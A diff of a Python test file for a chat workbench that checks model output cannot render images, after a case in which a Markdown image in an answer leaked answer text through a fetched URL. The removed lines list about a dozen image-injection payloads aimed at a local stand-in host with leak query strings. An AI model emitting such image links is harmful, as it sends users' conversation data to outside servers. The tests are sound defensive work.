@@ -1,6 +1,6 @@
 """Case: `![x](http://host/leak.png?d=...)` in an answer made the browser fetch that URL with
-text from the answer. Now no image in model output renders, in the chat, the Run history or
-the Markdown export; links stay clickable with their target shown; code is untouched."""
+text from the answer. The pages: no image in model output renders in the chat, the Run history
+or the Markdown export (`safe_markdown` itself is checked in test_safe_markdown_loads_no_image)."""
 
 from __future__ import annotations
 
@@ -9,39 +9,10 @@ from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
 from tests.fakes import FakeBackend
+from tests.reliability.test_safe_markdown_loads_no_image import HOSTILE
 from tests.ui.conftest import APP, build_glm, glm  # noqa: F401 (the page's real facade)
-from workbench.safe_markdown import safe_markdown
 
-LEAK = "![x](http://127.0.0.1:9/leak.png?d=the+secret+answer)"
-HOSTILE = [
-    LEAK,
-    '![a](<http://127.0.0.1:9/a b.png> "t")',
-    "![ref][r]\n\n[r]: http://127.0.0.1:9/r.png",
-    "![shortcut]\n\n[shortcut]: http://127.0.0.1:9/s.png",
-    "[![badge](http://127.0.0.1:9/b.png)](http://127.0.0.1:9/link)",
-    "![x](http://127.0.0.1:9/a(b).png)",
-    "\\\\![x](http://127.0.0.1:9/escaped-backslash.png)",
-    "\\`![x](http://127.0.0.1:9/not-code.png)`",
-    '<img src="http://127.0.0.1:9/tag.png">',
-    "```\nfenced\n```\n![x](http://127.0.0.1:9/after-fence.png)",
-    "> ![quoted](http://127.0.0.1:9/q.png)\n- ![listed](http://127.0.0.1:9/l.png)",
-]
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_no_image_survives_a_real_commonmark_parser(text):
-    html = MarkdownIt("commonmark").enable("table").render(safe_markdown(text))
-    assert "<img" not in html
-
-
-def test_links_stay_clickable_with_their_target_and_code_is_untouched():
-    text = "See [the docs](https://faust.grame.fr/doc) and `![x](y)`.\n\n```faust\nprocess = _; // ![z](w)\n```\n"
-    safe = safe_markdown(text)
-    assert "[the docs](https://faust.grame.fr/doc) (`https://faust.grame.fr/doc`)" in safe
-    assert "`![x](y)`" in safe and "```faust\nprocess = _; // ![z](w)\n```" in safe
-    image = safe_markdown(LEAK)
-    html = MarkdownIt("commonmark").render(image)
-    assert '<a href="http://127.0.0.1:9/leak.png?d=the+secret+answer">image: x</a>' in html
+LEAK = HOSTILE[0]
 
 
 @pytest.fixture
